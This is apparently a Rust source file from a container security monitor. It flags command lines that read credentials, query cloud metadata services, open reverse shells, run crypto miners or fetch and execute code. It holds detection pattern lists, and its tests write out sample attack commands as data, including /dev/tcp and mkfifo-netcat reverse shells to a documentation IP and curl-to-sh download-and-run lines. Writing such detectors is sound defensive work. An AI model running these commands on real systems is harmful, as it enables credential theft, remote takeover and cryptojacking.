//! What a command line gives away, whichever source saw it: an exec request, a container's command, a
//! process.
//!
//! Patterns are of what a command does, not of a tool's name where many tools do the same. They are meant
//! for command lines that somebody sent on purpose, so they may be broad.

use airside_types::redact;

/// The longest part of a command line that is looked at, in bytes: Linux runs no longer one.
const MAX_BYTES: usize = 2 << 20;

/// A command line in lower case, ready to be asked.
#[derive(Debug)]
pub(crate) struct Command {
    lower: String,
}

/// Where a container's credentials lie: its service account, its environment, its host's keys.
const CREDENTIALS: [&str; 16] = [
    "serviceaccount/token",
    "secrets/kubernetes.io",
    "secrets/eks.amazonaws.com",
    "azure-identity-token",
    "/proc/1/environ",
    "/proc/self/environ",
    "/.aws/credentials",
    "/.kube/config",
    "/.docker/config.json",
    "/.git-credentials",
    "/.ssh/id_",
    "/etc/shadow",
    "/etc/kubernetes/admin.conf",
    "/etc/kubernetes/pki",
    "/var/lib/kubelet/pki",
    "/var/lib/kubelet/kubeconfig",
];

/// The metadata services of AWS, Azure, Oracle and Google clouds, and of Alibaba's.
const METADATA: [&str; 6] = [
    "169.254.169.254",
    "169.254.170.2",
    "fd00:ec2::254",
    "metadata.google",
    "metadata.goog",
    "100.100.100.200",
];

const REVERSE_SHELL: [&str; 12] = [
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "nc -c",
    "--sh-exec",
    "pty.spawn",
    "socat exec",
    "socat tcp",
    "0<&196",
    "fsockopen",
    "io::socket::inet",
];

const MINER: [&str; 10] = [
    "stratum+tcp",
    "stratum+ssl",
    "stratum2+tcp",
    "--donate-level",
    "xmrig",
    "minerd",
    "cpuminer",
    "--coin=monero",
    "nicehash",
    "xmr-stak",
];

const SHELLS: [&str; 6] = ["sh", "bash", "ash", "dash", "zsh", "python3"];

impl Command {
    /// Takes a command line, cut to a bound.
    pub(crate) fn new(line: &str) -> Self {
        let cut = line.char_indices().map(|(at, _)| at).find(|at| *at >= MAX_BYTES);
        let kept = cut.and_then(|at| line.get(..at)).unwrap_or(line);
        Self { lower: kept.to_ascii_lowercase() }
    }

    fn has_any(&self, patterns: &[&str]) -> bool {
        patterns.iter().any(|pattern| self.lower.contains(pattern))
    }

    /// Reads a token, key or environment.
    pub(crate) fn reads_credentials(&self) -> bool {
        self.has_any(&CREDENTIALS)
    }

    /// Asks a cloud's metadata service.
    pub(crate) fn reaches_metadata(&self) -> bool {
        self.has_any(&METADATA)
    }

    /// Hands a shell to a network connection.
    pub(crate) fn is_reverse_shell(&self) -> bool {
        let pipe_shell =
            self.lower.contains("mkfifo") && self.has_any(&["nc ", "ncat ", "telnet "]);
        let python = self.lower.contains("socket.socket") && self.lower.contains("subprocess");
        self.has_any(&REVERSE_SHELL) || pipe_shell || python
    }

    /// Mines, by the protocol or the programs of miners.
    pub(crate) fn is_miner(&self) -> bool {
        self.has_any(&MINER)
    }

    /// Brings something in from the network.
    pub(crate) fn downloads(&self) -> bool {
        let has_url = self.has_any(&["http://", "https://", "ftp://"]);
        has_url && self.words().any(|word| matches!(word, "curl" | "wget" | "aria2c"))
    }

    /// Runs what it fetches, or what it decodes.
    pub(crate) fn runs_what_it_fetches(&self) -> bool {
        let fetches = self.downloads() || self.has_any(&["base64 -d", "base64 --decode"]);
        let to_shell = self.lower.split('|').skip(1).any(|stage| {
            let program = stage.split_whitespace().find(|word| *word != "sudo").unwrap_or_default();
            let name = program.rsplit('/').next().unwrap_or(program);
            SHELLS.contains(&name.trim_end_matches(['"', '\'', ';', ')']))
        });
        let made_executable = self.downloads() && self.lower.contains("chmod +x");
        fetches && to_shell || made_executable
    }

    /// Writes an archive to standard output: how `kubectl cp` takes files out.
    pub(crate) fn archives_to_stdout(&self) -> bool {
        ["tar cf -", "tar -cf -", "tar czf -", "tar -czf -", "tar c "]
            .iter()
            .any(|pattern| self.lower.starts_with(pattern))
    }

    fn words(&self) -> impl Iterator<Item = &str> {
        self.lower
            .split(|c: char| {
                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '`' | '"' | '\'')
            })
            .map(|word| word.rsplit('/').next().unwrap_or(word))
    }
}

/// A command line as people may see it: credentials hidden, cut to `limit` characters.
pub(crate) fn shown(line: &str, limit: usize) -> String {
    let cut: String = line.chars().take(limit).collect();
    let mut text = redact::redact(&cut);
    if cut.len() < line.len() {
        text.push('…');
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_seen_for_what_they_do() {
        type Question = fn(&Command) -> bool;
        let table: &[(Question, &[&str], &[&str])] = &[
            (
                Command::reads_credentials,
                &["cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cat /proc/1/environ"],
                &["cat /etc/hostname", "env"],
            ),
            (
                Command::reaches_metadata,
                &[
                    "curl -s http://169.254.169.254/latest/meta-data/",
                    "curl metadata.google.internal",
                ],
                &["curl http://10.0.0.1/"],
            ),
            (
                Command::is_reverse_shell,
                &[
                    "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                    "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f",
                ],
                &["nc -z db 5432", "bash -i"],
            ),
            (
                Command::is_miner,
                &["/tmp/.x -o stratum+tcp://pool.example.net:3333", "./xmrig --donate-level 1"],
                &["/app/miner-dashboard", "determiner"],
            ),
            (
                Command::downloads,
                &[
                    "wget -q http://198.51.100.23/x -O /tmp/.x",
                    "sh -c 'curl -fsSL https://x.example'",
                ],
                &["echo https://x.example", "curl --version"],
            ),
            (
                Command::runs_what_it_fetches,
                &[
                    "sh -c curl -fsSL http://198.51.100.23/w.sh | sh",
                    "echo aGk= | base64 -d | /bin/bash",
                    "wget http://x.example/a -O a && chmod +x a && ./a",
                ],
                &["curl https://x.example | jq .", "cat a.sh | sh"],
            ),
            (Command::archives_to_stdout, &["tar cf - /data"], &["tar xf -", "start cf -"]),
        ];
        for (question, yes, no) in table {
            for line in *yes {
                assert!(question(&Command::new(line)), "{line}");
            }
            for line in *no {
                assert!(!question(&Command::new(line)), "{line}");
            }
        }
    }

    #[test]
    fn what_is_shown_is_cut_and_redacted() {
        assert_eq!(shown("mysql --password=hunter2", 80), "mysql --password=«redacted»");
        assert_eq!(shown("äöü", 2), "äö…");
    }
}
